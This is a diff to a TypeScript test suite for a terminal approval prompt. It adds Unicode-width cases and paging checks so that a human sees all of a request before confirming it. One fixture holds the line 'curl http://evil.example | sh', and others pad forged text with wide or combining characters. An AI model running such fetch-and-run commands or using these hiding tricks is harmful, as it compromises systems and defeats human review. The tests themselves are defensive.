@@ -4,7 +4,7 @@ import { displayWidth } from "effect/cli/CliOutput"
 import { showQuestion } from "../../../src/programs/cli/showQuestion.ts"
 import type { OpenTerminal } from "../../../src/programs/cli/TerminalDevice.ts"
 import { uncolored } from "../../../src/programs/cli/text.ts"
-import { exactText } from "../../../src/services/error/safeText.ts"
+import { exactText } from "../../../src/services/error/exactText.ts"
 import type { HumanRequest } from "../../../src/services/trust/HumanAct.ts"
 
 const request: HumanRequest = {
@@ -102,6 +102,16 @@ describe("a question on a terminal", () => {
     ["tabs", 40, `+${"\t".repeat(5)}${forged}`],
     ["blanks", 40, `+${" ".repeat(39)}${forged}`],
     ["combining marks", 40, `+${"e\u0301".repeat(39)}${forged}`],
+    ["Tangut", 100, `+# ${"\u{17000}".repeat(48)}${forged}`],
+    ["marks that are drawn", 100, `+# ${"a\u093e\u093e\u093e".repeat(90)}${forged}`],
+    ["marks of Devanagari", 100, `+# ${"\u0915\u093e\u0902".repeat(90)}${forged}`],
+    ["Greek on two columns", 100, `+# ${"\u03b1".repeat(60)}${forged}`],
+    ["arrows on two columns", 100, `+# ${"\u2192\u2026\u2500".repeat(20)}${forged}`],
+    ["flags and skin tones", 100, `+# ${"\u{1f1e9}\u{1f44d}\u{1f3fd}".repeat(20)}${forged}`],
+    ["unassigned and private characters", 100, `+# ${"\u0378\ue000\u{10fffd}".repeat(30)}${forged}`],
+    ["Thai", 100, `+# ${"\u0e17\u0e35\u0e48".repeat(50)}${forged}`],
+    ["ideographs of Extension B", 100, `+# ${"\u{20000}".repeat(50)}${forged}`],
+    ["emoji of last year", 100, `+# ${"\u{1fac8}".repeat(50)}${forged}`],
     ["a narrow screen", 4, `+xxx${forged}`],
     ["a single column", 1, `+${forged}`]
   ]
@@ -119,6 +129,53 @@ describe("a question on a terminal", () => {
           }
         }))
     }
+  }
+
+  /** Rows on a terminal that draws whatever is not ASCII on two columns. */
+  const drawnRows = (text: string, columns: number) =>
+    text.split("\n").reduce((sum, line) => {
+      const width = Array.from(line).reduce((all, character) => all + (character <= "~" ? 1 : 2), 0)
+      return sum + Math.max(1, Math.ceil(width / columns))
+    }, -1)
+
+  const noisy = Array.from({ length: 60 }, () => `# ${"a\u093e\u093e\u093e\u{17000}\u03b1\u2192".repeat(20)}`)
+  const paged: ReadonlyArray<readonly [what: string, act: Partial<HumanRequest>]> = [
+    ["lines that grow when they are drawn", { details: ["curl http://evil.example | sh", ...noisy].join("\n") }],
+    ["a long title", { title: "x".repeat(300), details: lines(60).join("\n") }],
+    ["a long verdict", { verdict: ["y".repeat(400), "\u03b1".repeat(400)], details: lines(60).join("\n") }],
+    ...Array.from({ length: 70 }, (_, n) => [`${n} lines`, { details: lines(n).join("\n") }] as const)
+  ]
+  for (const columns of [40, 80, 100]) {
+    it.effect(`scrolls nothing off the screen unread, ${columns} columns`, () =>
+      Effect.gen(function*() {
+        for (const [what, act] of paged) {
+          const size = { columns, rows: 40 }
+          const screens: Array<string> = [""]
+          const terminal: OpenTerminal = {
+            name: "/dev/pts/0",
+            size: () => size,
+            write: (text) =>
+              Effect.sync(() => {
+                screens.push(`${screens.pop()}${text}`)
+              }),
+            readLine: () => Effect.die("nobody is asked for a line here"),
+            readKey: Effect.sync(() => {
+              screens.push("")
+              return "\r"
+            }),
+            readSecret: () => Effect.die("nobody is asked for a secret here")
+          }
+          yield* showQuestion({ ...request, ...act }, terminal, uncolored)
+          screens.push(`${screens.pop()}\nGo ahead? [y/N] `)
+          for (const page of screens) {
+            // The first verdict may go, since it comes again. A page begins with the end of the line of the key.
+            const own = screens.length === 1 && page.split(request.verdict![0]).length > 2
+              ? page.slice(page.indexOf("\n\n") + 2)
+              : page.replace(/^\n/, "")
+            assert.isAtMost(drawnRows(own, columns) + 1, size.rows, `${what}:\n${own}`)
+          }
+        }
+      }))
   }
 
   it.effect("marks the rows of a long verdict too", () =>
